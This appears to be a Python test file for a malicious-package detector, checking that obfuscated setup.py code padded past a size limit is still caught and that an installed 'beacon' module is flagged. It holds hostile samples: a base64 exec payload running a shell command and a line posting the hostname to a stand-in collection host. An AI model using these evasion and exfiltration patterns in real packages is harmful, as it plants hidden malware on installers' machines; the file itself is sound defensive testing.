"""Detector behaviour beyond the per-rule samples: install-time code past the source size limit,
top-level folders the built metadata installs, and scripts setup.py runs."""

from __future__ import annotations

import base64
from pathlib import Path

from pipwarden import analyze
from pipwarden.archive import read_archive
from pipwarden.models import Artifact, Finding, PackageRef, Severity
from tests.builders import make_sdist


def _scan(path: Path) -> list[Finding]:
    archive = read_archive(path)
    _, findings = analyze.analyze_archive(archive, Artifact(path.name, path=path), PackageRef("demo", path=path))
    return findings


def test_setup_py_padded_past_the_source_limit_is_still_analysed(tmp_path: Path) -> None:
    payload = base64.b64encode(b"import os\nos.system('id')\n").decode()
    padding = "#" * (analyze.MAX_ANALYSED_SOURCE + 1024)
    setup_py = f"import base64\nexec(base64.b64decode({payload!r}))\n{padding}\nfrom setuptools import setup\nsetup()\n"
    found = _scan(make_sdist(tmp_path, "demo", "1.0", {"demo/__init__.py": b""}, setup_py=setup_py))
    assert any(f.id == "PW103" and f.severity >= Severity.HIGH for f in found), found


def test_a_module_past_the_limit_is_not_parsed(tmp_path: Path) -> None:
    payload = base64.b64encode(b"import os\nos.system('id')\n").decode()
    big = f"import base64\nexec(base64.b64decode({payload!r}))\n" + "#" * (analyze.MAX_ANALYSED_SOURCE + 1024)
    found = _scan(make_sdist(tmp_path, "demo", "1.0", {"demo/__init__.py": big.encode()}))
    assert not [f for f in found if f.id == "PW103"]


def test_folder_listed_in_top_level_txt_is_imported_code(tmp_path: Path) -> None:
    """A top-level folder without __init__.py that the build metadata lists is installed: its
    module-level code is import-time code, not a dormant helper."""
    beacon = (b"import socket, requests\n"
              b"requests.post('https://collect.example.invalid', data={'h': socket.gethostname()})\n")
    files = {"beacon/core.py": beacon}
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    dormant = _scan(make_sdist(tmp_path / "a", "demo", "1.0", files))
    assert all(f.severity <= Severity.LOW for f in dormant if f.id == "PW130"), dormant
    files["demo.egg-info/top_level.txt"] = b"beacon\n"
    live = _scan(make_sdist(tmp_path / "b", "demo", "1.0", files))
    assert any(f.id == "PW130" and f.severity >= Severity.HIGH for f in live), live
